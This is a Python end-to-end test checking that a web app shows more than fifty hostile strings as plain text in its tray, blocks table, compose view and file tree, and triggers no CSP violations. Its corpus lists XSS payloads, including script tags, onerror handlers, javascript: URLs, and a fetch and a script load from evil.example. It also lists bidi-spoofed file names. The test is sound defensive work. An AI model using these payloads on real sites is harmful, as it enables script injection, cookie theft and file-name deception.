"""Hostile strings are shown as their characters, everywhere (issue 7; SPEC §11): a corpus of
more than fifty — script tags, event handlers, javascript: URLs, RTL overrides, zero-width
characters, very long names — used as block names, mission gists, file names and agent ids.
Each string goes wherever the host's own rules admit it (the test asks core, never restates
it); where a rule refuses it, the refusal is the answer. The page then shows every admitted
string literally in the tray, the blocks table, compose and the file tree, creates no element
or attribute from any of them, and the browser reports 0 securitypolicyviolation events."""

from __future__ import annotations

import io
import re
import zipfile

from pydantic import TypeAdapter, ValidationError

from core.missions.letters import OneLine, absolute_path_in
from core.missions.mailbox import AgentId
from core.paths import check_name, parse_new_path, parse_path
from core.refusals import Refused
from e2e.files_kit import EDITOR, editor_text, wait_editor
from e2e.hostpage import HostPage
from e2e.tray_kit import Missions, expand_tray, go, open_in_ui, refresh_tray, shot

CORPUS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='fetch(`https://evil.example`)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='javascript:alert(document.cookie)'>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript:void(0)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<base href=https://evil.example>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!-- comment --><b>bold</b>",
    "]]><![CDATA[<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\u202eexe.txt",
    "invoice\u202egpj.exe",
    "\u202dleft\u202c and \u202bright\u202c",
    "\u2066isolated\u2069 \u2067rtl\u2069",
    "zero\u200bwidth\u200cjoin\u200dmarks",
    "\ufeffbom at start",
    "\u2060word\u2060joiner",
    "שלום <b>עולם</b>",
    "مرحبا <i>بالعالم</i>",
    "😀 <img src=x onerror=alert(1)> 🎉",
    "Ω≈ç√∫˜µ≤≥÷ <u>",
    "line\u2028separator\u2029paragraph",
    "x" * 200,
    "<" * 200,
    ("<img src=x onerror=alert(1)>" * 8)[:200],
    "W" + "\u200b" * 150 + "W",
    "javascript:alert",
    "x@evil.example:onerror",
    "ONLOAD-1.javascript",
    "a" * 64,
]

AGENT = TypeAdapter(AgentId)
GIST = TypeAdapter(OneLine)


def admits_agent(text: str) -> bool:
    try:
        AGENT.validate_python(text)
    except ValidationError:
        return False
    return True


def admits_name(text: str) -> bool:
    try:
        check_name(text)
    except Refused:
        return False
    return True


def admits_gist(text: str) -> bool:
    try:
        GIST.validate_python(text)
    except ValidationError:
        return False
    return not absolute_path_in(text)


def admits_file(text: str) -> bool:
    try:
        parse_path(text)
    except Refused:
        return False
    return "/" not in text


def admits_new_file(text: str) -> bool:
    try:
        parse_new_path(text)
    except Refused:
        return False
    return "/" not in text


def _zip_of_names(names: list[str]) -> bytes:
    """A zip (no manifest) holding a file per name, its content the name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name in names:
            zf.writestr(name, name.encode())
    return out.getvalue()


def test_a_corpus_of_hostile_strings_is_shown_literally_everywhere_with_no_csp_violation(
    host: HostPage,
) -> None:
    assert len(CORPUS) >= 50 and len(set(CORPUS)) == len(CORPUS)
    # A display name with a bidi control is refused by the one name rule (core/paths.py);
    # the project gets the same hostile markup without it.
    refused = host.call("project.create", {"name": "Repo B1 \u202eevil"})["refusal"]
    assert refused["code"] == "name-invalid"
    brain = "Repo <b onclick=alert(1)>B1 evil"
    # block names follow the same rule (a bidi control in a <select> option cannot be isolated)
    block_names = [s for s in CORPUS if admits_name(s)]
    assert 40 <= len(block_names) < len(CORPUS)
    # a file named with < > : " | ? * is one a project may already hold (an archive's, a
    # picked folder's) but never a new one (core/paths.py rule 9, issue 34): the project comes
    # from an archive holding them all, and a new one is refused by name
    files = [s for s in CORPUS if admits_file(s)]
    pid = host.ok("project.import", {"name": brain, "case_sensitive": True}, _zip_of_names(files))[
        "result"
    ]["project"]["id"]
    added = host.ok(
        "blocks.candidate_edit",
        {"project": pid, "ops": [{"op": "add", "name": s, "purpose": s} for s in block_names]},
        human=True,
    )
    blocks = added["result"]["added"]
    assert len(blocks) == len(block_names)
    for name in files:
        if not admits_new_file(name):
            refused = host.refused("file.write", {"project": pid, "path": f"new {name}"}, b"x")
            assert refused["code"] == "path-invalid" and "Windows" in refused["message"]
    names = dict(zip(blocks, block_names, strict=True))
    for s in CORPUS:
        if not admits_name(s):
            refusal = host.call(
                "blocks.candidate_edit",
                {"project": pid, "ops": [{"op": "add", "name": s}]},
                human=True,
            )["refusal"]
            assert (refusal["code"], refusal["field"]) == ("name-invalid", "ops[0].name")

    gists = [s for s in CORPUS if admits_gist(s)]
    agents = [s for s in CORPUS if admits_agent(s)]
    assert len(gists) >= 30 and len(agents) >= 4 and len(files) >= 30
    m = Missions(host, pid, brain, blocks[0])
    posted: dict[str, tuple[str, str, str]] = {}
    for i, gist in enumerate(gists):
        mission = f"msn_{i:012x}"
        agent = agents[i % len(agents)]
        block = blocks[i % len(blocks)]
        m.post(
            mission,
            "judging",
            agent=agent,
            block=block,
            verdict={"decision": "CHANGE", "gist": gist},
        )
        posted[mission] = (names[block], gist, agent)
    for s in CORPUS:  # the host's rules refuse the rest, by name, and nothing is posted
        if not admits_agent(s):
            refusal = host.call(
                "mailbox.send", {"project": pid, "agent_id": s, "to": "hand-1", "text": "x"}
            )["refusal"]
            assert refusal["code"] == "message-malformed"
        if not admits_gist(s) and len(s) <= 300:
            refusal = host.call(
                "mission.post",
                {
                    "project": pid,
                    "agent_id": "hand-1",
                    "letter": {
                        **host.ok("mailbox.read", {"project": pid, "kind": "mission"})["result"][
                            "heads"
                        ][0]["letter"],
                        "mission_id": "msn_ffffffffffff",
                        "mission_seq": 1,
                        "prev_letter_id": None,
                        "verdict": {"decision": "CHANGE", "gist": s},
                    },
                },
            )["refusal"]
            assert refusal["code"] == "letter_invalid", (s, refusal)
    for name in files:
        host.ok("file.write", {"project": pid, "path": name}, name.encode())

    page = host.page
    open_in_ui(host, pid)
    expand_tray(page)
    refresh_tray(page)
    page.wait_for_function(
        "(n) => document.querySelectorAll('#tray-cards article').length === n", arg=len(posted)
    )
    cards = page.eval_on_selector_all(
        "#tray-cards article",
        """els => els.map(e => [e.dataset.mission, e.querySelector('.card-title').textContent,
            e.querySelector('.gist').textContent, e.querySelector('.agent-id').textContent])""",
    )
    assert {c[0]: tuple(c[1:]) for c in cards} == posted
    assert page.eval_on_selector("#tray .tray-project", "e => e.textContent") == brain
    assert page.eval_on_selector("#open-project-name", "e => e.textContent") == brain
    shot(page, "hostile-tray")

    go(page, "blocks")
    page.wait_for_selector("#blocks-table")
    shown = page.eval_on_selector_all(
        "#blocks-table tr[data-block]",
        "rows => rows.map(r => [r.dataset.block, r.querySelector('.block-name').textContent, r.querySelector('.block-purpose').textContent])",
    )
    assert {b: (n, p) for b, n, p in shown} == {b: (s, s) for b, s in names.items()}

    go(page, "compose")
    page.wait_for_selector("#packet-ref-value")
    options = page.eval_on_selector_all(
        "#compose-block option", "os => os.map(o => [o.value, o.textContent])"
    )
    for value, text in options[:-1]:
        assert text == f"{names[value]} — boundary v1"
    page.select_option("#compose-block", blocks[2])
    page.wait_for_function(
        "(n) => document.getElementById('packet-preview').textContent.includes(n)",
        arg=names[blocks[2]],
    )
    for agent in CORPUS[:5]:  # agent ids the host refuses: the refusal is shown, nothing runs
        page.fill("#compose-agent", agent)
        page.wait_for_function(
            "() => document.getElementById('packet-ref').textContent.endsWith('(code message-malformed)')"
        )
    page.fill("#compose-agent", agents[0])
    page.wait_for_function(
        "(a) => document.getElementById('packet-preview').textContent.includes('agent id `' + a + '`')",
        arg=agents[0],
    )

    go(page, "files")
    page.wait_for_selector("#file-tree .file-entry")
    entries = page.eval_on_selector_all(
        "#file-tree .file-entry", "bs => bs.map(b => b.textContent)"
    )
    assert sorted(entries) == sorted(files)
    page.click("#file-tree .file-entry >> nth=0")
    page.wait_for_selector("#viewer-path")
    opened = page.eval_on_selector("#viewer-path", "e => e.textContent")
    assert opened in files
    wait_editor(page)
    assert editor_text(page) == opened
    # the editor renders it as text: no element of the document came from the string
    assert (
        page.eval_on_selector(EDITOR, "e => e.querySelectorAll('img, script, iframe').length") == 0
    )

    go(page, "audit")
    page.wait_for_selector("#audit-rows tr[data-seq]")
    page.fill("#audit-filter-op", "mission.post")
    page.press("#audit-filter-op", "Enter")
    page.wait_for_function(
        "() => { const c = [...document.querySelectorAll('#audit-rows tr[data-seq] td:nth-child(4)')];"
        " return c.length > 0 && c.every(td => td.textContent === 'mission.post'); }"
    )
    details = " ".join(
        page.eval_on_selector_all("#audit-rows td.details", "tds => tds.map(t => t.textContent)")
    )
    for agent in agents:
        assert f"agent_id={agent}" in details

    # nothing any string said became markup: no element, attribute or navigation of its own
    made = page.evaluate(
        """() => ({
          imgs: document.querySelectorAll('img').length,
          scripts: [...document.scripts].map(s => s.getAttribute('src')),
          frames: document.querySelectorAll('iframe:not(.sandbox-frame[src="tools/sandbox.html"]):not(.sandbox-frame[src="runtime/python.html"]), object, embed, svg, math, video, style:not([data-app]), link:not([rel=stylesheet]):not([rel=icon]), base, meta[http-equiv=refresh]').length,
          handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length,
          jsLinks: [...document.querySelectorAll('[href],[src],[action]')].filter(e => /javascript:/i.test(e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action'))).length,
          url: location.href,
        })"""
    )
    assert made["imgs"] == 0 and made["frames"] == 0
    assert made["handlers"] == 0 and made["jsLinks"] == 0
    assert made["scripts"] == ["./start-host.mjs", "./app.mjs"]  # the page's own, no other
    # the only navigation is the page's own route in the hash: a surface and the project's id
    assert re.fullmatch(r"https://app\.test/vbx/#/audit\?project=p_[0-9a-f]+", made["url"])
    assert host.csp_violations() == []
    host.assert_clean()
